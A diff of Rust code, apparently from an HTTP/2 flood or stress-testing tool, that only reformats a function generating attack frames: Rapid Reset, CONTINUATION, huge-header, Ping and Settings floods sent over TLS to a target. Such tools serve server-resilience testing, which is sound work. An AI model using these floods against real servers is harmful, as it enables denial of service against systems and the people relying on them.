@@ -52,11 +52,13 @@ impl Flood {
             Self::Continuation => frame(Kind::Continuation, 0, 1, &field(b"a", &[b'b'; 8000])),
             Self::EmptyContinuation => frame(Kind::Continuation, 0, 1, &[]).repeat(1000),
             Self::HugeHeaders => huge_request(2 * round + 1, target),
-            Self::RapidReset | Self::LateReset => (0..BATCH).flat_map(|place| {
-                let stream = stream_id(round, place);
-                let taken_back = if self == Self::RapidReset { reset(stream) } else { Vec::new() };
-                [connect(stream, target), taken_back].concat()
-            }).collect(),
+            Self::RapidReset | Self::LateReset => (0..BATCH)
+                .flat_map(|place| {
+                    let stream = stream_id(round, place);
+                    let taken_back = if self == Self::RapidReset { reset(stream) } else { Vec::new() };
+                    [connect(stream, target), taken_back].concat()
+                })
+                .collect(),
             Self::Ping => frame(Kind::Ping, 0, 0, &[1; 8]).repeat(1000),
             Self::Settings => frame(Kind::Settings, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(1000),
             Self::EmptyData if first => connect(1, target),
@@ -98,7 +100,12 @@ fn huge_request(stream: u32, target: &str) -> Vec<u8> {
 }
 
 /// Floods for so many rounds, or until the server has had enough.
-pub(crate) async fn flood(stream: TlsStream<TcpStream>, flood: Flood, rounds: u32, target: SocketAddr) -> Result<Value> {
+pub(crate) async fn flood(
+    stream: TlsStream<TcpStream>,
+    flood: Flood,
+    rounds: u32,
+    target: SocketAddr,
+) -> Result<Value> {
     let mut wire = Wire::open(stream).await?;
     let target = target.to_string();
     let mut done = 0;
